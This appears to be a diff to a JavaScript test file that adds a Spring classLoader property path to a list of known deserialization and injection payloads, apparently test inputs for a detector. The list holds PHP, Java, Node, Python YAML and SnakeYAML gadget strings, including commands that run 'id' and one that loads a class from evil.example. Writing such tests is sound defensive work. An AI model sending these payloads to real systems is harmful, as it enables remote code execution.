@@ -69,6 +69,7 @@ describe('expressions of templates', () => {
     'O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}',
     'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAB',
     'aced000573720011',
+    'class.module.classLoader.resources.context.parent',
     "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
     '!!python/object/apply:os.system ["id"]',
     '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]',
